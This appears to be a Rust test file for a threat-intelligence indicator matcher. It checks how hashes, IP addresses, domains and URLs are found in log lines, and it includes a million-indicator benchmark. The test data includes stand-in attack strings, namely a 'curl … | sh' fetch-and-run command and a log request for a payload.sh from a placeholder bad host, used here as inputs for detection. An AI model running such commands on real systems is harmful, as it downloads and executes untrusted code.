    let line = "Process Create: Image: C:\\Users\\x\\dropper.exe Hashes: SHA1=DA39A3EE5E6B4B0D3255BFEF95601890AFD80709,MD5=44D88612FEA8A8F36DE82E1278ABB02F,SHA256=E3B0C44298FC1C149AFBF4C8996FB92427AE41E4649B934CA495991B7852B855,IMPHASH=00000000000000000000000000000000";
    assert_eq!(
        scan(&set, line),
        [
            "44d88612fea8a8f36de82e1278abb02f",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        ]
    );
    // A hex run of the wrong length is not a hash.
    assert!(scan(&set, "id=44d88612fea8a8f36de82e1278abb02f00").is_empty());
}

#[test]
fn scan_skips_kinds_the_set_lacks() {
    let empty = IocSet::new();
    assert!(scan(&empty, "203.0.113.66 malware-c2.example").is_empty());
    let only_hashes = set_of("44d88612fea8a8f36de82e1278abb02f\n");
    assert!(
        scan(
            &only_hashes,
            "203.0.113.66 malware-c2.example http://x.example/"
        )
        .is_empty()
    );
    assert_eq!(
        scan(&only_hashes, "md5:44d88612fea8a8f36de82e1278abb02f"),
        ["44d88612fea8a8f36de82e1278abb02f"]
    );
}

#[test]
fn scan_reads_addresses_as_the_extractor_does() {
    // The address grammar is shared with entity extraction and masking: zero-padded octets are
    // decimal, octets over 255 and runs of four digits are no address.
    let set = set_of("10.1.1.1\n203.0.113.7\n");
    assert_eq!(
        scan(&set, "deny src=010.001.001.001 dst=203.0.113.7:443"),
        ["10.1.1.1", "203.0.113.7"]
    );
    assert!(scan(&set, "build 10.1.1.1000 and 10.1.1.256 and 1203.0.113.7").is_empty());
}

#[test]
fn string_hash_ignores_piece_boundaries_and_lowercases_like_std() {
    let mut x = 0x1234_5678_9abc_def0_u64;
    for _ in 0..10_000 {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        let w = x ^ 0x4142_5a5b_4061_7a40;
        let bytewise = u64::from_le_bytes(w.to_le_bytes().map(|b| b.to_ascii_lowercase()));
        assert_eq!(hash::lower_word(w), bytewise, "{w:#x}");
    }
    let text = b"HTTP://Some.Example.COM/Path/To/Something?With=Query";
    let whole = {
        let mut h = hash::StrHasher::new(7);
        h.write(text, true);
        h.finish()
    };
    for cut in 0..text.len() {
        for cut2 in cut..text.len() {
            let mut h = hash::StrHasher::new(7);
            h.write(&text[..cut], true);
            h.write(&text[cut..cut2], true);
            h.write(&text[cut2..], true);
            assert_eq!(h.finish(), whole, "{cut} {cut2}");
        }
    }
    let lower = text.to_ascii_lowercase();
    let mut h = hash::StrHasher::new(7);
    h.write(&lower, false);
    assert_eq!(h.finish(), whole);
}

#[test]
fn domain_hash_collisions_fall_back_to_the_text() {
    // Force two domains onto one hash: the second goes to the overflow list and both match.
    let mut set = IocSet::new();
    set.add("one.example", None, "t", None).unwrap();
    let id = IocId(1);
    set.indicators.push(Indicator {
        kind: IocKind::Domain,
        value: "two.example".into(),
        source: Arc::from("t"),
        label: None,
        confidence: None,
    });
    let h_one = hash::domain_hash(set.seed, b"one.example");
    let inds = &set.indicators;
    assert_eq!(
        set.domains
            .claim(h_one, 1, |i| *inds[i as usize].value == *"two.example"),
        None
    );
    assert_eq!(set.domains.overflow, [(h_one, 1)]);
    assert_eq!(
        set.domains
            .get(h_one, |i| &*set.indicators[i as usize].value
                == "two.example"),
        Some(id.0)
    );
    assert_eq!(set.match_domain("one.example"), Some(IocId(0)));
}

#[test]
fn set_is_shareable_between_workers() {
    fn shareable<T: Send + Sync>() {}
    shareable::<IocSet>();
}

#[test]
fn add_reports_duplicates_and_kinds() {
    let mut set = IocSet::new();
    assert_eq!(
        set.add("1.2.3.4", Some(IocKind::Ipv4), "s", None),
        Ok(Added::New(IocId(0)))
    );
    assert_eq!(
        set.add("::ffff:1.2.3.4", None, "s", None),
        Ok(Added::Duplicate(IocId(0)))
    );
    assert!(set.add("evil.com", Some(IocKind::Ipv4), "s", None).is_err());
    assert!(
        set.add("10.0.0.0/8", Some(IocKind::Ipv4), "s", None)
            .is_ok()
    );
    assert_eq!(set.count(IocKind::Cidr), 1);
    assert_eq!(set.iter().count(), 2);
    assert!(set.get(IocId(7)).is_none());
    assert!(format!("{set:?}").contains("len: 2"));
}

/// The bytes of the vector and maps (at their real bucket counts), strings left out.
fn structure_bytes(set: &IocSet) -> usize {
    fn map<K>(m: &hash::KeyMap<K>) -> usize {
        let buckets = (m.capacity() * 8).div_ceil(7).next_power_of_two();
        buckets * (std::mem::size_of::<(K, u32)>() + 1)
    }
    set.indicators.capacity() * std::mem::size_of::<Indicator>()
        + map(&set.v4)
        + map(&set.v6)
        + set.v4_nets.iter().map(|n| map(&n.map)).sum::<usize>()
        + set.v6_nets.iter().map(|n| map(&n.map)).sum::<usize>()
        + map(&set.domains.map)
        + map(&set.urls.map)
        + map(&set.md5)
        + map(&set.sha1)
        + map(&set.sha256)
}

/// Memory and speed with a million indicators; run with
/// `cargo test --release -p watchpost-rules ioc::tests::million -- --ignored --nocapture`.
#[test]
#[ignore]
fn million() {
    fn rss_kib() -> usize {
        let s = std::fs::read_to_string("/proc/self/status").unwrap_or_default();
        s.lines()
            .find_map(|l| l.strip_prefix("VmRSS:"))
            .and_then(|v| v.trim().trim_end_matches("kB").trim().parse().ok())
            .unwrap_or(0)
    }
    // On-CPU time of this thread, so that other load on the machine does not count.
    struct Cpu(u64);
    impl Cpu {
        fn now() -> Cpu {
            let s = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
            Cpu(s
                .split(' ')
                .next()
                .and_then(|n| n.parse().ok())
                .unwrap_or(0))
        }
        fn elapsed(&self) -> Duration {
            Duration::from_nanos(Cpu::now().0 - self.0)
        }
    }
    let mut seed = 0x2545_f491_4f6c_dd1d_u64;
    let mut next = move || {
        seed ^= seed << 13;
        seed ^= seed >> 7;
        seed ^= seed << 17;
        seed
    };
    let n = 1_000_000;
    let mut texts = Vec::with_capacity(n);
    for i in 0..n {
        let r = next();
        texts.push(match i % 5 {
            0 => std::net::Ipv4Addr::from(r as u32).to_string(),
            1 => format!("{:x}.{:x}.example", r & 0xffff_ffff, r >> 40),
            2 => format!("http://{:x}.example/p/{:x}", r & 0xffff, r >> 16),
            3 => format!("{:016x}{:016x}", r, next()),
            _ => format!("{:016x}{:016x}{:016x}{:016x}", r, next(), next(), next()),
        });
    }
    let before = rss_kib();
    let t = Cpu::now();
    let mut set = IocSet::new();
    for s in &texts {
        let _ = set.add(s, None, "bench.txt", None);
    }
    set.shrink_to_fit();
    let load = t.elapsed();
    let after = rss_kib();
    let strings: usize = set.iter().map(|(_, i)| i.value.len()).sum();
    println!(
        "{} indicators loaded in {load:?}; RSS +{} MiB = {} bytes each, of which {} bytes of canonical text",
        set.len(),
        (after - before) / 1024,
        (after - before) * 1024 / set.len(),
        strings / set.len()
    );
    println!(
        "structures without strings: {} bytes each (Indicator {} bytes)",
        structure_bytes(&set) / set.len(),
        std::mem::size_of::<Indicator>()
    );
    let rounds = 1_000_000;
    let t = Cpu::now();
    let mut hits = 0;
    for i in 0..rounds {
        let a = std::net::Ipv4Addr::from(next() as u32);
        hits += usize::from(set.match_ip(IpAddr::V4(a)).is_some());
        hits += usize::from(set.match_domain(&texts[(i * 5 + 1) % n]).is_some());
    }
    println!(
        "match_ip + match_domain (hit): {:?} per pair ({hits} hits)",
        t.elapsed() / rounds as u32
    );
    let t = Cpu::now();
    for _ in 0..rounds {
        hits += usize::from(set.match_domain("a.b.c.notlisted.example.org").is_some());
        hits += usize::from(set.match_url("http://a.example/p/12345").is_some());
    }
    println!(
        "match_domain (6 labels, miss) + match_url (miss): {:?} per pair",
        t.elapsed() / rounds as u32
    );
    let lines: Vec<String> = (0..100_000)
        .map(|i| {
            let a = std::net::Ipv4Addr::from(next() as u32);
            let d = &texts[(i * 5 + 1) % n];
            format!(r#"{a} - - [01/Jun/2024:03:12:45 +0000] "GET /x HTTP/1.1" 200 512 "https://www.{d}/landing" "curl/8.0""#)
        })
        .collect();
    let t = Cpu::now();
    for l in lines.iter().cycle().take(rounds) {
        set.scan_text(l, |_| hits += 1);
    }
    println!(
        "scan_text (100k different lines, cold maps, one domain hit each): {:?} per line",
        t.elapsed() / rounds as u32
    );
    let line = r#"198.51.100.23 - - [01/Jun/2024:03:12:45 +0000] "GET /fetch?u=http://dl.badhost.example/payload.sh HTTP/1.1" 200 512 "https://www.malware-c2.example/landing" "curl/8.0" sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855"#;
    let t = Cpu::now();
    for _ in 0..rounds {
        set.scan_text(std::hint::black_box(line), |_| hits += 1);
    }
    println!(
        "scan_text ({} bytes): {:?} per line",
        line.len(),
        t.elapsed() / rounds as u32
    );
    assert!(hits > 0);
}

#[test]
fn hashes_and_urls_are_found_in_text_without_tokenising() {
    let mut set = IocSet::new();
    let md5 = "44d88612fea8a8f36de82e1278abb02f";
    let _ = set.add(md5, None, "t", None);
    let _ = set.add("http://evil.example/x.sh", None, "t", None);
    let sha1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709";
    let _ = set.add(sha1, None, "t", None);
    let hit = |t: &str| set.find_hash_or_url(t, true, true).is_some();
    assert!(hit(&format!("Hashes=MD5={},SHA256=00", md5.to_uppercase())));
    assert!(hit(&format!("file {md5}")));
    assert!(
        !hit(&format!("file {md5}0"),),
        "33 hex digits are not an MD5"
    );
    assert!(hit("curl -s http://evil.example/x.sh | sh"));
    assert!(hit("GET \"http://EVIL.example/x.sh\" 200"));
    assert!(!hit("curl -s http://evil.example/y.sh"));
    assert!(!hit("nothing here"));
    for pad in 0..40 {
        let line = format!("{}x {sha1} y", "z".repeat(pad));
        assert!(hit(&line), "at offset {pad}");
        assert!(
            hit(&format!("{}{sha1}", ":".repeat(pad))),
            "at the end after {pad}"
        );
    }
    assert!(!hit(&format!("{sha1}a")), "41 hex digits");
    for k in [
        "Hashes",
        "sha256",
        "file.hash.md5",
        "MD5",
        "process.hash.sha1",
    ] {
        assert!(names_a_hash(k), "{k}");
    }
    for k in ["trace_id", "session", "ip", "", "message"] {
        assert!(!names_a_hash(k), "{k}");
    }
}
